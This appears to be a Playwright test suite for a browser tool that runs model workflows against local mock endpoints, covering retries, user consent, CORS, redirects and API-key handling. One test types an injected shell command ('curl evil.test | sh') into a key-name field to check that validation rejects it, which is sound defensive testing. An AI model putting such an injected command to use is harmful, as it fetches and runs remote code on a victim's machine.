import { createServer, type IncomingMessage, type Server, type ServerResponse } from "node:http";
import type { AddressInfo } from "node:net";
import { expect, test, type Page } from "@playwright/test";
import { findings } from "./axe.js";
import { asking, card, exportedText, importText, openDocument, picture } from "./builder.js";

type Answer = (request: IncomingMessage, response: ServerResponse) => void;

let server: Server | undefined;

/** Starts an endpoint on this machine that answers like this; gives its base URL. */
async function endpoint(answer: Answer): Promise<string> {
  const open = createServer((request, response) => {
    response.setHeader("access-control-allow-origin", "*");
    response.setHeader("access-control-allow-headers", "*");
    if (request.method === "OPTIONS") return void response.writeHead(204).end();
    answer(request, response);
  });
  server = open;
  await new Promise<void>((resolve) => open.listen(0, "127.0.0.1", resolve));
  return `http://127.0.0.1:${(open.address() as AddressInfo).port}/v1`;
}

test.afterEach(async () => {
  server?.closeAllConnections();
  await new Promise((resolve) => (server === undefined ? resolve(undefined) : server.close(resolve)));
  server = undefined;
});

async function agreeAndRun(page: Page): Promise<void> {
  await page.getByRole("button", { name: "Run", exact: true }).click();
  await page.getByRole("button", { name: "Send and run" }).click();
  await expect(page.locator(".run-summary")).not.toHaveAttribute("data-status", /idle|running/);
}

async function expectFailure(page: Page, code: string, text: RegExp): Promise<void> {
  await expect(card(page, "ask")).toHaveAttribute("data-status", "error");
  await expect(card(page, "ask").locator(".card-output.failed")).toBeVisible();
  const failure = page.locator(".run-steps .failure");
  await expect(failure).toHaveAttribute("data-code", code);
  await expect(failure).toContainText(text);
  await expect(failure.locator(".failure-hint").first()).not.toBeEmpty();
  await failure.getByRole("button", { name: "Show ask" }).click();
  await expect(card(page, "ask")).toHaveClass(/selected/);
}

function part(text: string): string {
  return `data: ${JSON.stringify({ choices: [{ index: 0, delta: { content: text } }] })}\n\n`;
}

test("a step that waits for its next attempt says so, and one that gives up says how long it was asked to wait", async ({ page }) => {
  const url = await endpoint((_, response) => response.writeHead(429, { "retry-after": "3", "access-control-expose-headers": "*" }).end('{"error":{"message":"slow down"}}'));
  await openDocument(page, { ...asking(url), retryPolicy: { maxRetries: 1 } });
  await page.getByRole("button", { name: "Run", exact: true }).click();
  await page.getByRole("button", { name: "Send and run" }).click();
  const output = card(page, "ask").locator(".card-output");
  await expect(output).toContainText(/^Tries again in [23] s: /);
  // It says so live, and the list of the run with it.
  await expect(output).toContainText(/^Tries again in 1 s: /);
  await expect(page.locator(".step-row .step-text")).toContainText(/^Tries again (in 1 s|now): /);
  await expect(output).not.toHaveClass(/failed/);
  await expect(card(page, "ask")).toHaveAttribute("data-status", "running");
  await card(page, "ask").click();
  await expect(page.locator(".run-of-step").getByRole("status")).toHaveText(/^Waits \d\.\d s for attempt 2, until .*\d.*\.$/);
  await picture(page, "waits-for-attempt");
  await expect(page.locator(".run-summary")).toHaveAttribute("data-status", "error");
  await expectFailure(page, "rate_limit", /./);
  await expect(page.locator(".run-steps .failure")).toContainText("The endpoint asked to be left alone for 3.0 s.");
  await expect(page.locator(".run-steps .failure").getByRole("button", { name: "Run again" })).toBeVisible();
});

test("a real endpoint streams onto the card, and only after the person agreed", async ({ page }) => {
  const keys: string[] = [];
  let goOn = (): void => {};
  const url = await endpoint((request, response) => {
    keys.push(request.headers.authorization ?? "no key");
    response.writeHead(200, { "content-type": "text/event-stream" });
    response.write(part("Bees "));
    goOn = () => response.end(`${part("dance.")}data: [DONE]\n\n`);
  });
  await openDocument(page, asking(url, "MY_KEY"));
  await page.getByRole("button", { name: "Endpoint settings" }).first().click();
  await page.getByLabel("API key").fill("sk-mine");
  await page.getByRole("button", { name: "Save" }).click();
  await page.getByRole("button", { name: "Run", exact: true }).click();
  await expect(card(page, "ask").locator(".card-output")).toHaveText("Bees ");
  goOn();
  await expect(card(page, "ask").locator(".card-output")).toHaveText("Bees dance.");
  await expect(card(page, "ask")).toHaveAttribute("data-status", "done");
  await expect(card(page, "ask").locator(".badge.simulated")).toHaveCount(0);
  expect(keys).toEqual(["Bearer sk-mine"]);
});

test("a foreign workflow sends nothing before the person agrees", async ({ page }) => {
  let calls = 0;
  const url = await endpoint((_, response) => {
    calls += 1;
    response.end("{}");
  });
  await openDocument(page, asking(url));
  await page.getByRole("button", { name: "Run", exact: true }).click();
  await expect(page.getByRole("dialog")).toContainText(new URL(url).origin);
  await picture(page, "agree");
  await page.keyboard.press("Escape");
  await expect(card(page, "ask")).toHaveAttribute("data-status", "idle");
  expect(calls).toBe(0);
});

test("an endpoint that is down", { tag: "@firefox" }, async ({ page }) => {
  const url = await endpoint(() => {});
  const closed = server;
  await new Promise((resolve) => closed?.close(resolve));
  server = undefined;
  await openDocument(page, asking(url));
  await agreeAndRun(page);
  await expectFailure(page, "network", /127\.0\.0\.1/);
  await picture(page, "endpoint-down");
});

test("an endpoint that takes no calls of pages is distinguished from one that is down", async ({ page }) => {
  const open = createServer((_, response) => response.end("{}"));
  server = open;
  await new Promise<void>((resolve) => open.listen(0, "127.0.0.1", resolve));
  const origin = `http://127.0.0.1:${(open.address() as AddressInfo).port}`;
  await openDocument(page, asking(`${origin}/v1`));
  await agreeAndRun(page);
  const hint = page.locator(".run-steps .failure-hint");
  await expect(hint).toContainText(`answers at ${origin}, but does not take calls from`);
  await expect(hint).toContainText("access-control-allow-origin");
  await picture(page, "endpoint-cors");
  open.closeAllConnections();
  await new Promise((resolve) => open.close(resolve));
  server = undefined;
  await page.getByRole("button", { name: "Run", exact: true }).click();
  await expect(hint).toContainText(`nothing answers at ${origin}`);
});

test("an endpoint that leads elsewhere is not followed, and says so", async ({ page }) => {
  let followed = 0;
  const url = await endpoint((request, response) => {
    if (request.url?.startsWith("/elsewhere")) followed += 1;
    response.writeHead(307, { location: "/elsewhere" }).end();
  });
  await openDocument(page, asking(url));
  await agreeAndRun(page);
  await expectFailure(page, "network", /answered with a redirect.*not followed/);
  expect(followed).toBe(0);
});

test("a key that is missing is a button away, for the model that needs it", async ({ page }) => {
  const url = await endpoint((_, response) => {
    response.writeHead(200, { "content-type": "text/event-stream" });
    response.end(`${part("Hello.")}data: [DONE]\n\n`);
  });
  const own = { provider: "openai", model: "tiny", baseUrl: url, apiKey: { secret: "MY_KEY" } };
  await openDocument(page, { ...asking(url), models: { other: { provider: "demo", model: "demo" }, real: own } });
  await agreeAndRun(page);
  const failure = page.locator(".run-steps .failure");
  await expect(failure).toContainText("the workflow needs the secret MY_KEY");
  await expect(failure).not.toContainText("secrets: {");
  await picture(page, "key-missing");
  await page.emulateMedia({ colorScheme: "dark" });
  await picture(page, "key-missing-dark");
  await page.emulateMedia({ colorScheme: "light" });
  await failure.getByRole("button", { name: "Enter the key MY_KEY" }).click();
  const dialog = page.getByRole("dialog");
  await expect(dialog.getByLabel("Model of the workflow")).toHaveValue("real");
  await expect(dialog.getByLabel("API key")).toBeFocused();
  await page.keyboard.type("sk-mine");
  await dialog.getByRole("button", { name: "Save" }).click();
  await page.getByRole("button", { name: "Run", exact: true }).click();
  await expect(card(page, "ask")).toHaveAttribute("data-status", "done");
});

test("a name of a key that cannot stand in a command is refused at its field", async ({ page }) => {
  await openDocument(page, asking("http://127.0.0.1:9/v1", "MY_KEY"));
  await page.getByRole("button", { name: "Endpoint settings" }).first().click();
  const dialog = page.getByRole("dialog");
  await dialog.getByLabel("Name of the key").fill("KEY; curl evil.test | sh #");
  await dialog.getByRole("button", { name: "Save" }).click();
  await expect(dialog.getByRole("alert")).toContainText("Give the key a name of letters, digits and _");
});

test("a key that is pasted where its name belongs is refused, unquoted, and stays out of the document", async ({ page }) => {
  const key = "gsk_abcdefghijklmnop1234567890";
  const http = { url: "http://127.0.0.1:9/items", auth: { bearer: { secret: "MY_KEY" } } };
  const steps = [{ id: "s1", type: "http", name: "fetch", http }];
  await openDocument(page, { ...asking("http://127.0.0.1:9/v1", "MY_KEY"), steps });
  await page.getByRole("button", { name: "Endpoint settings" }).first().click();
  const dialog = page.getByRole("dialog");
  await dialog.getByLabel("Name of the key").fill(key);
  await expect(dialog.getByRole("alert")).toContainText("This looks like a key");
  await expect(dialog.getByRole("alert")).not.toContainText("gsk_");
  await dialog.getByRole("button", { name: "Save" }).click();
  await expect(dialog).toBeVisible();
  await picture(page, "endpoint-pasted-key");
  await dialog.getByRole("button", { name: "Cancel" }).click();

  await card(page, "fetch").click();
  const name = page.locator(".inspector").getByLabel("Name of the key");
  await name.fill(key);
  await expect(page.locator(".inspector").getByText("This looks like a key")).toBeVisible();
  await name.blur();
  await expect(name).toHaveValue("MY_KEY");
  expect(await exportedText(page)).not.toContain("gsk_");
});

test("the settings of a model open for that model", async ({ page }) => {
  const models = { first: { provider: "demo", model: "demo" }, second: { provider: "openai", model: "m", baseUrl: "http://127.0.0.1:9/v1" } };
  await openDocument(page, { version: 1, name: "Two", models, steps: [] });
  await page.getByRole("button", { name: "Endpoint settings of second" }).click();
  await expect(page.getByRole("dialog").getByLabel("Model of the workflow")).toHaveValue("second");
});

test("an endpoint that refuses the key", async ({ page }) => {
  const url = await endpoint((_, response) => {
    response.writeHead(401, { "content-type": "application/json" });
    response.end(JSON.stringify({ error: { message: "Incorrect API key provided" } }));
  });
  await openDocument(page, asking(url));
  await agreeAndRun(page);
  await expect(page.locator(".run-steps .failure")).toHaveAttribute("data-code", "auth");
  await page.locator(".run-steps").getByRole("button", { name: "Give the model real a key" }).click();
  const dialog = page.getByRole("dialog");
  await dialog.getByLabel("Name of the key").fill("MY_KEY");
  await dialog.getByLabel("API key").fill("sk-wrong");
  await dialog.getByRole("button", { name: "Save" }).click();
  await page.getByRole("button", { name: "Run", exact: true }).click();
  await expect(page.locator(".run-steps").getByRole("button", { name: "Check the key MY_KEY" })).toBeVisible();
  await expectFailure(page, "auth", /401|key/i);
});

test("an endpoint that sends garbage", async ({ page }) => {
  const url = await endpoint((_, response) => {
    response.writeHead(200, { "content-type": "text/html" });
    response.end("<html><body>Welcome to the wrong door</body></html>");
  });
  await openDocument(page, asking(url));
  await agreeAndRun(page);
  await expectFailure(page, "model", /no answer of a model/);
});

test("an endpoint that breaks off in the middle keeps what had arrived", async ({ page }) => {
  let breakOff = (): void => {};
  const url = await endpoint((_, response) => {
    response.writeHead(200, { "content-type": "text/event-stream" });
    response.write(part("Half of an answ"));
    breakOff = () => response.destroy();
  });
  await openDocument(page, asking(url));
  await page.getByRole("button", { name: "Run", exact: true }).click();
  await page.getByRole("button", { name: "Send and run" }).click();
  await expect(card(page, "ask").locator(".card-output")).toHaveText("Half of an answ");
  breakOff();
  await expectFailure(page, "network", /./);
  await expect(page.locator(".inspector").getByLabel("What had arrived")).toContainText("Half of an answ");
});

test("a run is stopped while an endpoint keeps it waiting", { tag: "@firefox" }, async ({ page }) => {
  let gone = false;
  const url = await endpoint((request, response) => {
    response.writeHead(200, { "content-type": "text/event-stream" });
    response.write(part("Thinking"));
    request.on("close", () => {
      gone = true;
    });
    response.on("close", () => {
      gone = true;
    });
  });
  await openDocument(page, asking(url));
  await page.getByRole("button", { name: "Run", exact: true }).click();
  await page.getByRole("button", { name: "Send and run" }).click();
  await expect(card(page, "ask").locator(".card-output")).toHaveText("Thinking");
  await page.getByRole("button", { name: "Stop" }).click();
  await expect(card(page, "ask")).toHaveAttribute("data-status", "cancelled");
  await expect.poll(() => gone).toBe(true);
});

/** An answer of Anthropic Messages as it streams: what the model thinks, then its text. */
const MESSAGES = [
  { type: "message_start", message: { id: "m1", type: "message", role: "assistant", model: "claude-sonnet-4-5", content: [], usage: { input_tokens: 9, output_tokens: 1 } } },
  { type: "content_block_start", index: 0, content_block: { type: "thinking", thinking: "", signature: "" } },
  { type: "content_block_delta", index: 0, delta: { type: "thinking_delta", thinking: "Somebody greets me." } },
  { type: "content_block_delta", index: 0, delta: { type: "signature_delta", signature: "c2ln" } },
  { type: "content_block_stop", index: 0 },
  { type: "content_block_start", index: 1, content_block: { type: "text", text: "" } },
  { type: "content_block_delta", index: 1, delta: { type: "text_delta", text: "Hello to you." } },
  { type: "content_block_stop", index: 1 },
  { type: "message_delta", delta: { stop_reason: "end_turn", stop_sequence: null }, usage: { output_tokens: 14 } },
  { type: "message_stop" },
];

test("Anthropic is chosen as the endpoint, with a key for its place alone", async ({ page }) => {
  const requests: IncomingMessage[] = [];
  const url = await endpoint((request, response) => {
    requests.push(request);
    response.writeHead(200, { "content-type": "text/event-stream" });
    for (const event of MESSAGES) response.write(`event: ${event.type}\ndata: ${JSON.stringify(event)}\n\n`);
    response.end();
  });
  await openDocument(page, asking("http://127.0.0.1:9/v1"));
  await page.getByRole("button", { name: "Endpoint settings" }).first().click();
  const dialog = page.getByRole("dialog");
  const presets = dialog.getByRole("group", { name: "Presets" }).getByRole("button");
  const names = await presets.evaluateAll((buttons) => buttons.map((button) => (button as HTMLElement).innerText.replace(/\s+/g, " ")));
  expect(names).toHaveLength(19);
  expect(new Set(names).size).toBe(19);
  await picture(page, "endpoint-presets");
  await dialog.getByRole("button", { name: "Anthropic Messages" }).click();
  await expect(dialog.getByLabel("Base URL")).toHaveValue("https://api.anthropic.com/v1");
  await expect(dialog.getByLabel("Name of the key")).toHaveValue("ANTHROPIC_API_KEY");
  await expect(dialog.locator(".note.sends")).toContainText("straight from this browser to https://api.anthropic.com.");
  await picture(page, "endpoint-anthropic");
  await dialog.getByLabel("Base URL").fill(url);
  await dialog.getByLabel("API key").fill("sk-ant-mine");
  await dialog.getByRole("button", { name: "Save" }).click();
  await page.getByRole("button", { name: "Run", exact: true }).click();
  await expect(card(page, "ask")).toHaveAttribute("data-status", "done");
  await expect(card(page, "ask").locator(".card-output")).toHaveText("Hello to you.");
  expect(requests.map(({ url }) => url)).toEqual(["/v1/messages"]);
  expect(requests[0]?.headers).toMatchObject({ "x-api-key": "sk-ant-mine", "anthropic-dangerous-direct-browser-access": "true" });
  await card(page, "ask").click();
  const reasoning = page.locator(".inspector .told:not(.sent)");
  await expect(reasoning.getByText("Somebody greets me.")).toBeHidden();
  await reasoning.getByText("Reasoning").click();
  await expect(reasoning.getByText("Somebody greets me.")).toBeVisible();
  await expect(page.locator(".run-summary")).toContainText(/9 tokens in, 14 out, \$0\.000/);
  await picture(page, "reasoning");
  // Another place gets another key, or none.
  await page.getByTitle("Endpoint settings").first().click();
  await expect(dialog.getByLabel("API key")).toHaveValue("sk-ant-mine");
  await dialog.getByRole("button", { name: "Anthropic Messages" }).click();
  await expect(dialog.getByLabel("API key")).toHaveValue("");
});

test("an endpoint of one's own asks for its address", async ({ page }) => {
  await openDocument(page, asking("http://127.0.0.1:9/v1"));
  await page.setViewportSize({ width: 390, height: 800 });
  await page.getByRole("button", { name: "Endpoint settings" }).first().click();
  const dialog = page.getByRole("dialog");
  await dialog.getByRole("button", { name: "Azure" }).click();
  await expect(dialog.getByText("Yours, such as https://my-resource.openai.azure.com/openai/v1")).toBeVisible();
  await dialog.getByRole("button", { name: "Save" }).click();
  await expect(dialog.getByText("Must be an address such as https://my-resource.openai.azure.com/openai/v1.")).toBeVisible();
  const wide = await dialog.locator(".modal-body").evaluate((body) => body.scrollWidth > body.clientWidth);
  expect(wide).toBe(false);
  await picture(page, "endpoint-azure-narrow");
});

test("a run that may send to a fallback asks for that place too", async ({ page }) => {
  const models = {
    first: { provider: "anthropic", model: "claude-sonnet-4-5" },
    second: { provider: "openai", model: "tiny", baseUrl: "http://127.0.0.1:9/v1" },
  };
  const agents = { helper: { model: "first", fallbacks: ["second"] } };
  await openDocument(page, { ...asking(""), models, agents });
  await page.getByRole("button", { name: "Run", exact: true }).click();
  await expect(page.getByRole("dialog").locator(".origins li")).toHaveText(["http://127.0.0.1:9", "https://api.anthropic.com"]);
});

test("a test says whether the endpoint, the key and the model are right, and offers its models", async ({ page }) => {
  const requests: string[] = [];
  const url = await endpoint((request, response) => {
    requests.push(`${request.method} ${request.url} ${request.headers.authorization ?? "no key"}`);
    const isRight = request.headers.authorization === "Bearer sk-right";
    response.writeHead(isRight ? 200 : 401, { "content-type": "application/json" });
    response.end(JSON.stringify(isRight ? { data: [{ id: "tiny-2" }, { id: "huge" }] } : { error: { message: "bad key sk-wrong" } }));
  });
  await openDocument(page, asking(url, "MY_KEY"));
  await page.getByRole("button", { name: "Endpoint settings" }).first().click();
  const dialog = page.getByRole("dialog");
  const found = dialog.locator(".tested li");
  await dialog.getByLabel("Model", { exact: true }).fill("tiny");
  await dialog.getByLabel("API key").fill("sk-wrong");
  await dialog.getByRole("button", { name: "Test" }).click();
  await expect(found).toHaveText([/It answers/, /It does not accept the key \(401\)\.\s*Copy the key again/]);
  await dialog.getByLabel("API key").fill("sk-right");
  await expect(found).toHaveCount(0);
  await dialog.getByRole("button", { name: "Test" }).click();
  await expect(found).toHaveText([/It answers/, /It accepts the key/, /It has no model tiny\.\s*Perhaps tiny-2\. All 2 are suggested/]);
  const offers = dialog.locator("datalist option");
  await expect(offers).toHaveCount(2);
  expect(await offers.evaluateAll((options) => options.map((option) => (option as HTMLOptionElement).value))).toEqual(["huge", "tiny-2"]);
  expect(await findings(page)).toEqual([]);
  await picture(page, "endpoint-tested");
  await page.emulateMedia({ colorScheme: "dark" });
  expect(await findings(page)).toEqual([]);
  await picture(page, "endpoint-tested-dark");
  await dialog.getByLabel("Model", { exact: true }).fill("huge");
  await dialog.getByRole("button", { name: "Test" }).click();
  await expect(found.last()).toHaveText(/It has the model huge\./);
  await dialog.getByLabel("Model", { exact: true }).fill("");
  await dialog.getByRole("button", { name: "Test" }).click();
  await expect(found.last()).toHaveText(/The model is missing\.\s*Choose one of its 2 models/);
  expect(requests).toEqual(["GET /v1/models Bearer sk-wrong", "GET /v1/models Bearer sk-right", "GET /v1/models Bearer sk-right", "GET /v1/models Bearer sk-right"]);
});

test("a test of an endpoint that is not there, or takes no calls of pages, says what to do", async ({ page }) => {
  const open = createServer((_, response) => response.end("{}"));
  server = open;
  await new Promise<void>((resolve) => open.listen(0, "127.0.0.1", resolve));
  const origin = `http://127.0.0.1:${(open.address() as AddressInfo).port}`;
  await openDocument(page, asking(`${origin}/v1`));
  await page.getByRole("button", { name: "Endpoint settings" }).first().click();
  const dialog = page.getByRole("dialog");
  const found = dialog.locator(".tested li");
  await dialog.getByRole("button", { name: "Test" }).click();
  // A relay of the page serves requests, and a model's calls not.
  await expect(found).toHaveText([/does not take calls from \S+ \(CORS\): .*; or a relay of your own can call it in the page's place: write its address as the base URL$/]);
  open.closeAllConnections();
  await new Promise((resolve) => open.close(resolve));
  server = undefined;
  await dialog.getByRole("button", { name: "Test" }).click();
  await expect(found).toHaveText([/127\.0\.0\.1/]);
});

test("a test of an address where a web page answers says so, and nothing of the key", async ({ page }) => {
  const url = await endpoint((_, response) => response.writeHead(200, { "content-type": "text/html" }).end("<!doctype html><title>Welcome</title>"));
  await openDocument(page, asking(url, "MY_KEY"));
  await page.getByRole("button", { name: "Endpoint settings" }).first().click();
  const dialog = page.getByRole("dialog");
  await dialog.getByLabel("API key").fill("sk-wrong");
  await dialog.getByRole("button", { name: "Test", exact: true }).click();
  await expect(dialog).toContainText("What answers there is a web page or a text, and not the API of a model.");
  await expect(dialog).not.toContainText("accepts the key");
});

test("several models that are all simulated are no reason to look at the settings", async ({ page }) => {
  const demo = (model: string): object => ({ provider: "demo", model });
  const flow = (other: object): object => ({ version: 1, name: "Two", models: { a: demo("demo"), b: other }, agents: { a: { model: "a" }, b: { model: "b" } }, steps: [] });
  await openDocument(page, flow(demo("demo two")));
  await expect(page.locator(".endpoint-button")).toContainText("Demo model");
  await importText(page, JSON.stringify(flow({ provider: "openai", model: "tiny" })));
  await expect(page.locator(".endpoint-button")).toContainText("Several models");
});
